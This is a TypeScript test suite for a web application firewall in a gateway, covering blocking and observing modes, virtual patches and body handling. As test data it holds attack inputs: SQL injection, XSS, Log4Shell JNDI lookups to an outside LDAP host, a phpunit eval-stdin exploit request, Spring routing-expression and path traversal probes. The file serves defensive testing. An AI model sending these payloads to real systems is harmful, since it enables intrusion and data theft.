/** The WAF on the path of real requests: what it refuses, observes and leaves alone, and what it may not disturb. */
import { gzipSync } from 'node:zlib';
import t, { type Test } from 'tap';
import type { Query } from '../../cli/control-client.ts';
import type { RefusalModel, WhyRequest } from '../../gateway/admin/models.ts';
import { startTestGateway, type TestGateway } from '../support/gateway.ts';
import { send } from '../support/raw-client.ts';
import { type NodeOrigin, type NodeOriginOptions, startNodeOrigin } from '../support/servers/node-origin.ts';
import { suitePath } from '../support/suites.ts';
import { type Control, controlOf } from './visitors.ts';
import { eventually } from '../support/eventually.ts';

interface Opened extends TestGateway {
  readonly origin: NodeOrigin;
  readonly control: Control;
  readonly ask: (target: string, init?: RequestInit) => Promise<Response>;
  /** What is stored about the request of this answer. */
  readonly why: (response: Response) => Promise<WhyRequest>;
}

const client = '203.0.113.7';
/** Scenarios of ours would ban the client for what the rules are shown. */
const quiet = { detection: { builtin: false }, waf: {} };
const attack = "/search?q=1'%20UNION%20SELECT%20password%20FROM%20users--%20-";

async function open(t: Test, settings: object, origin: NodeOriginOptions = {}): Promise<Opened> {
  const node = await startNodeOrigin(t, origin);
  const gateway = await startTestGateway(t, { origin: node.origin, ...quiet, ...settings });
  const control = controlOf(gateway.gateway.controlSocket);
  return {
    ...gateway,
    origin: node,
    control,
    ask: (target, init = {}) =>
      fetch(`http://127.0.0.1:${gateway.port}${target}`, {
        ...init,
        headers: { 'x-forwarded-for': client, 'user-agent': 'Mozilla/5.0', accept: '*/*', ...init.headers },
      }),
    async why(response) {
      const id = response.headers.get('x-request-id') ?? '';
      await eventually(
        () => refusalsOf(control, { request: id }),
        (refusals) => refusals.length > 0,
      );
      return control.ask<WhyRequest>('GET', `/v1/why/${id}`);
    },
  };
}

async function refusalsOf(control: Control, query: Query = {}): Promise<readonly RefusalModel[]> {
  return (await control.ask<{ refusals: readonly RefusalModel[] }>('GET', '/v1/refusals', query)).refusals;
}

const form = (body: string): RequestInit => ({
  method: 'POST',
  body,
  headers: { 'content-type': 'application/x-www-form-urlencoded' },
});

t.test('the Core Rule Set refuses an attack, and says why', async (t) => {
  const crs = suitePath(t, 'crs');
  if (crs === null) return;
  const { ask, why, origin } = await open(t, { waf: { coreRules: { mode: 'block', folder: crs } } });

  const good = await ask('/search?q=a+book+about+unions&page=2', { headers: { cookie: 'session=4f2a; theme=dark' } });
  t.equal(good.status, 200);
  t.equal((await ask('/comment', form('name=Ada&text=I+select+from+two+books'))).status, 200);

  const refused = await ask(attack);
  t.equal(refused.status, 403);
  const { refusal } = await why(refused);
  t.match(refusal, {
    reason: 'waf',
    status: 403,
    detail: /^waf: rule 949110$/,
    findings: [{ layer: 'core-rules', enforced: true, rule_id: 949110 }],
  });
  const sqli = refusal?.findings[0]?.matches.find(({ rule_id }) => rule_id === 942100);
  t.match(sqli, {
    file: /REQUEST-942-APPLICATION-ATTACK-SQLI\.conf$/,
    message: /SQL Injection/,
    values: [{ variable: 'ARGS:q', value: /union/i }],
    score: 5,
  });
  t.ok((sqli?.line ?? 0) > 1);
  t.ok((refusal?.findings[0]?.score ?? 0) >= 5);

  t.equal((await ask('/comment', form("text=1'+or+'1'%3d'1'+union+select+1"))).status, 403, 'in a form');
  t.equal(
    (
      await ask('/api', {
        method: 'POST',
        body: '{"a":{"b":"<script>alert(1)</script>"}}',
        headers: { 'content-type': 'application/json' },
      })
    ).status,
    403,
    'in JSON',
  );
  t.same(
    origin.requests.map(({ method, url }) => `${method} ${url}`),
    ['GET /search?q=a+book+about+unions&page=2', 'POST /comment'],
    'the origin saw nothing of what was refused',
  );
});

t.test('the Core Rule Set only observes by default, and leaves no trace for its client', async (t) => {
  const crs = suitePath(t, 'crs');
  if (crs === null) return;
  const { control, origin, ask } = await open(t, { waf: { coreRules: { folder: crs } } });
  t.equal((await ask(attack)).status, 200);
  t.equal(origin.requests.length, 1);
  const refusals = await eventually(
    () => refusalsOf(control),
    ({ length }) => length === 1,
  );
  t.match(refusals[0], {
    reason: 'waf-observed',
    status: 200,
    findings: [{ layer: 'core-rules', enforced: false, rule_id: 949110 }],
  });
});

t.test('virtual patches block without any settings', async (t) => {
  const { ask, why, origin } = await open(t, {});
  const refused = await ask('/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', form('<?php echo 1;'));
  t.equal(refused.status, 403);
  const { refusal } = await why(refused);
  t.match(refusal?.findings, [
    {
      layer: 'virtual-patches',
      enforced: true,
      matches: [{ file: /vpatch-CVE-2017-9841\.yaml$/, values: [{ variable: 'REQUEST_FILENAME' }] }],
    },
  ]);
  t.equal((await ask('/', { headers: { 'x-api-version': '${jndi:ldap://192.0.2.1/a}' } })).status, 403);
  t.equal((await ask('/wiki/phpunit')).status, 200);
  t.equal(origin.requests.length, 1);
});

t.test('modes of sites: off, observe, block; a site that observes has no layer that blocks', async (t) => {
  const node = await startNodeOrigin(t);
  const site = (host: string, more: object): object => ({ hosts: [host], origin: node.origin, ...more });
  const { port } = await startTestGateway(t, {
    ...quiet,
    sites: [
      site('off.test', { waf: { virtualPatches: 'off' } }),
      site('observe.test', { waf: { virtualPatches: 'observe' } }),
      site('block.test', {}),
      site('site-observes.test', { mode: 'observe' }),
    ],
  });
  const statuses: number[] = [];
  for (const host of ['off', 'observe', 'block', 'site-observes']) {
    const { responses } = await send(
      port,
      `GET /eval-stdin.php HTTP/1.1\r\nHost: ${host}.test\r\nX-Forwarded-For: ${client}\r\n\r\n`,
    );
    statuses.push(responses[0]?.status ?? 0);
  }
  t.same(statuses, [200, 200, 403, 200]);
});

t.test('who tries a second weakness is banned, where the patches block; where they observe nobody is', async (t) => {
  const tries = [{ 'spring.cloud.function.routing-expression': 'x' }, { cookie: 'SESSID=../../../x' }];
  const all = { detection: { builtin: true } };
  const blocking = await open(t, all);
  t.equal((await blocking.ask('/')).status, 200);
  for (const headers of tries) t.equal((await blocking.ask('/', { headers })).status, 403);
  const banned = await blocking.ask('/');
  t.equal(banned.status, 403);
  t.match(await blocking.why(banned), {
    refusal: { reason: 'decision', scenario: 'portcullis/waf-virtual-patches', findings: [] },
  });
  const [alert] = (await blocking.control.alerts({})).filter(({ scenario }) => scenario.includes('vpatch'));
  t.match(alert, { kind: 'waf' });

  const observing = await open(t, { ...all, waf: { virtualPatches: { mode: 'observe' } } });
  for (const headers of tries) t.equal((await observing.ask('/', { headers })).status, 200);
  t.equal((await observing.ask('/')).status, 200);
  t.same(await observing.control.decisions({}), []);
});

t.test('allowlisted clients are not looked at', async (t) => {
  const { ask, control } = await open(t, {});
  t.equal((await ask('/eval-stdin.php')).status, 403);
  await control.allow(client);
  t.equal((await ask('/eval-stdin.php')).status, 200);
});

t.test('bodies reach the origin as they were, whatever of them was held', async (t) => {
  const { ask, origin } = await open(t, { waf: { requestBody: { bytes: '64KiB' } } });
  const sizes = [1, 65_535, 65_536, 65_537, 3_000_000];
  for (const [index, size] of sizes.entries()) {
    const body = Buffer.alloc(size, 'abcdefghij');
    const answer = await ask('/upload', {
      method: 'PUT',
      body,
      headers: { 'content-type': 'application/octet-stream' },
    });
    t.equal(answer.status, 200);
    const received = (await origin.received(index + 1))[index];
    t.ok(received?.body.equals(body), `${size} bytes`);
  }
  const chunks = async function* (): AsyncGenerator<Buffer> {
    for (let index = 0; index < 40; index++) {
      yield Buffer.alloc(5_000, String.fromCharCode(97 + (index % 26)));
      await new Promise((resolve) => setImmediate(resolve));
    }
  };
  const stream = { method: 'POST', body: ReadableStream.from(chunks()), duplex: 'half' } as RequestInit;
  t.equal((await ask('/stream', stream)).status, 200);
  const [streamed] = (await origin.received(sizes.length + 1)).slice(-1);
  t.equal(streamed?.body.length, 200_000);
  t.equal(streamed?.headers['transfer-encoding'], 'chunked');
});

t.test(
  'an attack at the end of what is held is found, one behind it is not, and either way nothing breaks',
  async (t) => {
    const { ask } = await open(t, { waf: { requestBody: { bytes: '16KiB' } } });
    const padded = (length: number): RequestInit => form(`${'a'.repeat(length)}&q=\${jndi:ldap://192.0.2.1/x}`);
    t.equal((await ask('/', padded(16_000))).status, 403);
    t.equal((await ask('/', padded(17_000))).status, 200, 'only a bounded beginning is held');
    const strict = await open(t, { waf: { requestBody: { bytes: '16KiB', over: 'reject' } } });
    t.equal((await strict.ask('/', padded(17_000))).status, 403, 'unless larger bodies are refused');
  },
);

t.test('clients that break off or send nonsense while their body is held', async (t) => {
  const { port, origin, ask } = await open(t, {});
  const head = 'POST /a HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n';
  await send(port, [`${head}5\r\nabcde\r\n`, { abort: true }]);
  const broken = await send(port, [`${head}5\r\nabcde\r\n`, 'zz\r\nnot a chunk\r\n'], { until: 'close' });
  t.equal(broken.responses[0]?.status, 400);
  await send(port, ['POST /b HTTP/1.1\r\nHost: a\r\nContent-Length: 50\r\n\r\nabc', { half: 'close' }], {
    until: 'close',
  });
  t.equal(origin.requests.length, 0, 'the origin saw none of them');
  t.equal((await ask('/alive')).status, 200);
});

t.test('a leak in a response is withheld, compressed or not, and streams when only observed', async (t) => {
  const crs = suitePath(t, 'crs');
  if (crs === null) return;
  const leak = `<html>${'x'.repeat(2_000)}You have an error in your SQL syntax; check the manual that corresponds to your MySQL server</html>`;
  const handler: NodeOriginOptions['handler'] = (request, response) => {
    if (!request.url?.startsWith('/page')) return false;
    const zipped = request.url.includes('gzip');
    response.writeHead(200, { 'content-type': 'text/html', ...(zipped ? { 'content-encoding': 'gzip' } : {}) });
    const text = request.url.includes('good') ? '<html>good</html>' : leak;
    response.end(zipped ? gzipSync(text) : text);
    return true;
  };
  const waf = (mode: string) => ({ waf: { coreRules: { mode, folder: crs }, responseBody: { inspect: true } } });
  const blocking = await open(t, waf('block'), { handler });
  for (const [path, status] of [
    ['/page/good', 200],
    ['/page/good/gzip', 200],
    ['/page/leak', 403],
    ['/page/leak/gzip', 403],
  ] as const) {
    const answer = await blocking.ask(path);
    t.equal(answer.status, status, path);
    const body = await answer.text();
    t.notMatch(body, /SQL syntax/);
    if (status === 200) t.equal(body, '<html>good</html>');
    else t.match(await blocking.why(answer), { refusal: { reason: 'waf', findings: [{ rule_id: 959100 }] } });
  }
  const observing = await open(t, waf('observe'), { handler });
  t.equal(await (await observing.ask('/page/leak/gzip')).text(), leak);
  await eventually(
    () => refusalsOf(observing.control),
    (refusals) => refusals[0]?.findings[0]?.rule_id === 959100,
  );
  t.pass('and what would have been withheld is written down');
});
